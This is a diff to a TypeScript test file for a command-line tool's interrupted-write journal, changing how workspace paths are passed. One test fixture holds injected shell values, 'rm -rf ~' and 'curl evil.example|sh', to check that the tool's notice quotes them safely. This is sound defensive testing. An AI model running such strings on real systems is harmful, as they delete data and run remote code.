@@ -29,7 +29,7 @@ describe('the journal of a TUI write', () => {
     const ban = makeCommand({ name: 'ban' });
     const api = new FakeApi([ban]);
     let release!: () => void;
-    const deleting = deleteCommand(openWorkspace(api, home.env), { scope: GLOBAL_SCOPE, command: ban, reason: 'delete ban' });
+    const deleting = deleteCommand(openWorkspace(api, home.environment.paths()), { scope: GLOBAL_SCOPE, command: ban, reason: 'delete ban' });
     // Hold the DELETE (not the backup's reads) until the journal has been read.
     await new Promise<void>((resolve) => {
       const original = api.deleteCommand.bind(api);
@@ -47,7 +47,7 @@ describe('the journal of a TUI write', () => {
 
     // As if the process had been killed here: its pid is gone, the journal stays.
     await writeFile(lockFile(), JSON.stringify({ ...journal, pid: deadPid(), host: hostname() }));
-    const notice = await interruptedWrite(home.env, APP_ID, GLOBAL_SCOPE);
+    const notice = await interruptedWrite(home.environment.paths(), APP_ID, GLOBAL_SCOPE);
     expect(notice).toContain('An earlier `delete ban in the TUI`');
     expect(notice).toContain(`To undo what it did, \`cmd-tui restore ${journal.backup}\`.`);
     expect(notice).not.toContain('Running the same command again');
@@ -59,7 +59,7 @@ describe('the journal of a TUI write', () => {
   it('quotes a hand-edited backup path and never offers a command with shell syntax to run again', async () => {
     await mkdir(join(home.home, 'data', 'locks'), { recursive: true });
     await writeFile(lockFile(), JSON.stringify({ pid: deadPid(), host: hostname(), command: 'apply x.json; rm -rf ~', since: '2026-11-24T10:00:00.000Z', backup: 'x.json; curl evil.example|sh' }));
-    const notice = (await interruptedWrite(home.env, APP_ID, GLOBAL_SCOPE))!;
+    const notice = (await interruptedWrite(home.environment.paths(), APP_ID, GLOBAL_SCOPE))!;
     expect(notice).toContain("`cmd-tui restore 'x.json; curl evil.example|sh'`");
     expect(notice).not.toContain('Running the same command again');
   });
@@ -68,9 +68,9 @@ describe('the journal of a TUI write', () => {
     await mkdir(join(home.home, 'data', 'locks'), { recursive: true });
     await writeFile(lockFile(), JSON.stringify({ pid: deadPid(), host: hostname(), command: 'apply commands.json', since: '2026-11-24T10:00:00.000Z', backup: '/backups/before.json' }));
     const ping = makeCommand({ name: 'ping' });
-    await deleteCommand(openWorkspace(new FakeApi([ping]), home.env), { scope: GLOBAL_SCOPE, command: ping, reason: 'delete ping' });
-    expect(await interruptedWrite(home.env, APP_ID, GLOBAL_SCOPE)).toContain('An earlier `apply commands.json`');
-    await withScopeLock(home.env, APP_ID, GLOBAL_SCOPE, 'apply commands.json', async () => undefined);
-    expect(await interruptedWrite(home.env, APP_ID, GLOBAL_SCOPE)).toBeUndefined();
+    await deleteCommand(openWorkspace(new FakeApi([ping]), home.environment.paths()), { scope: GLOBAL_SCOPE, command: ping, reason: 'delete ping' });
+    expect(await interruptedWrite(home.environment.paths(), APP_ID, GLOBAL_SCOPE)).toContain('An earlier `apply commands.json`');
+    await withScopeLock(home.environment.paths(), APP_ID, GLOBAL_SCOPE, 'apply commands.json', async () => undefined);
+    expect(await interruptedWrite(home.environment.paths(), APP_ID, GLOBAL_SCOPE)).toBeUndefined();
   });
 });
